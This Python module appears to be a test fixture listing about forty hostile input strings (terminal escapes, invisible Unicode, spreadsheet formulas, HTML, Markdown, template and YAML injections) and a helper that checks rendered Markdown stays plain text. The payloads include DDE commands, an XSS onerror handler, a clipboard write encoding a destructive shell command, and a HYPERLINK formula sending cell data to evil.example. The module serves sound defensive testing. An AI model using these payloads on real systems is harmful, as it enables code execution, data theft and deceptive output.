"""Forty texts that no user means well with: names as they may come from files of other tools."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import cmarkgfm
from cmarkgfm.cmark import Options

ESCAPES = {
    "ansi colour": "\x1b[31mred\x1b[0m",
    "ansi clear and home": "\x1b[2J\x1b[Hok",
    "8-bit csi": "\x9b31mred",
    "osc 0, window title": "\x1b]0;owned\x07",
    "osc 8, link": "\x1b]8;;http://evil.example/\x1b\\here\x1b]8;;\x1b\\",
    "osc 52, clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "dcs": "\x1bP+q544e\x1b\\",
    "carriage return": "fail\rpass",
    "backspaces": "bad\x08\x08\x08ok",
    "lines": "one\ntwo\r\nthree",
    "tab": "a\t=1+1",
    "nul and del": "a\x00b\x7fc",
    "c1": "a\x84b\x85c\x8dd",
    "other line ends": "a\x0bb\x0cc\x1cd\u2028e\u2029f",
}
DIRECTIONS = {
    "override": "rep3\u202e3per",
    "isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "marks": "a\u200eb\u200fc\u061cd",
    "zero width": "rep\u200b3\u200c\u200d\u2060\ufeff",
    "no shape": "a\u3164b\u115fc\u034fd\u00ade\ufe0ff\u2800",
    "tags": "a\U000e0041\U000e0062\U000e007f",
    "noncharacters": "a\ufffeb\uffffc\ufdd0d",
    "private use": "a\ue000b\U000f0000",
}
FORMULAS = {
    "dde": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "full width": "＝1+1",
    "behind cells": 'a";=1+1;"b,=2+2',
}
MARKUP = {
    "html": "<img src=x onerror=alert(1)>&lt;b&gt;",
    "script": "</script><script>alert(1)</script><!-- x",
    "attribute": "\"' onmouseover='alert(1)' x=\"",
    "cdata": "]]><x/>&#27;&nbsp;",
    "markdown": "`code` **bold** _it_ ~~no~~ [a](javascript:alert(1)) ![i](http://evil.example/i)",
    "autolinks": "<//evil.example/x> <http://evil.example> www.evil.example https://evil.example",
    "github": "@octocat a@evil.example #1 GH-2 o/r#3 :tada: " + "0123abcd" * 5,
    "blocks": "# h | a \\| b | --- | [^1]: [x] $x$ > q",
    "item": "- [x] 1. item",
    "template": "{{ 7*7 }} {% raw %} ${HOME} $(id) `id`",
    "yaml": "a: &b [*b, !!python/object:x {}] # ' \"",
}
TEXTS = tuple({**ESCAPES, **DIRECTIONS, **FORMULAS, **MARKUP}.values())

HIDDEN = re.compile(
    "[\x00-\x09\ud800-\udfff\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f"
    "\u2028-\u202e\u2060-\u206f\u2800\u3164\ue000-\uf8ff\ufdd0-\ufdef\ufe00-\ufe0f\ufeff\uffa0"
    "\ufff0-\ufffb\ufffe\uffff\U000e0000-\U000e0fff\U000f0000-\U0010ffff]"
)
"""Characters that no output has, as ranges: not by the categories that `visible` goes by."""

# What an answer in Markdown may consist of.
_ELEMENTS = {
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "li", "strong", "pre", "code", "span"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
# What GitHub turns into links, pictures and formulas, in each text between two tags or comments.
_LIVE = re.compile(
    r"(?:^|[^\w`])@[A-Za-z0-9]|[\w.+-]+@[\w-]+\.\w|#\d|\bGH-\d|https?:/|www\.|\b[0-9a-f]{40}\b"
    r"|:(?:tada|\+1):|\$.*\S"
)


class _Rendered(HTMLParser):
    """The text and the table cells of rendered Markdown; `live` is what GitHub would change."""

    def __init__(self) -> None:
        super().__init__()
        self.text = ""
        self.cells: list[str] = []
        self.live: list[str] = []
        self.unknown: list[str] = []
        self._inside: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ELEMENTS or {name for name, _ in attrs} - {"align"}:
            self.unknown.append(f"{tag} {attrs}")
        self._inside.append(tag)
        if tag in ("td", "th"):
            self.cells.append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        source = dict(attrs).get("src") or ""
        if tag != "img" or not re.fullmatch(r"[\w-]+/[\w-]+\.svg", source):
            self.unknown.append(f"{tag} {attrs}")

    def handle_endtag(self, tag: str) -> None:
        assert self._inside.pop() == tag
        self.text += "" if tag == "span" else "\n"

    def handle_data(self, data: str) -> None:
        self.text += data
        if {"td", "th"} & set(self._inside):
            self.cells[-1] += data
        if "code" not in self._inside and _LIVE.search(data):
            self.live.append(data)


def on_github(markdown: str) -> _Rendered:
    """Render Markdown as GitHub does, and make sure that no text is anything but text."""
    options = Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES
    page = _Rendered()
    page.feed(cmarkgfm.github_flavored_markdown_to_html(markdown, options=options))
    assert page.unknown == []
    assert page.live == []
    plain = cmarkgfm.markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)
    assert not re.search(r"<(?:a|em|del|hr|ol|blockquote|script|input)\b", plain)
    page.text = re.sub(r"[ \n]+", " ", page.text)
    return page
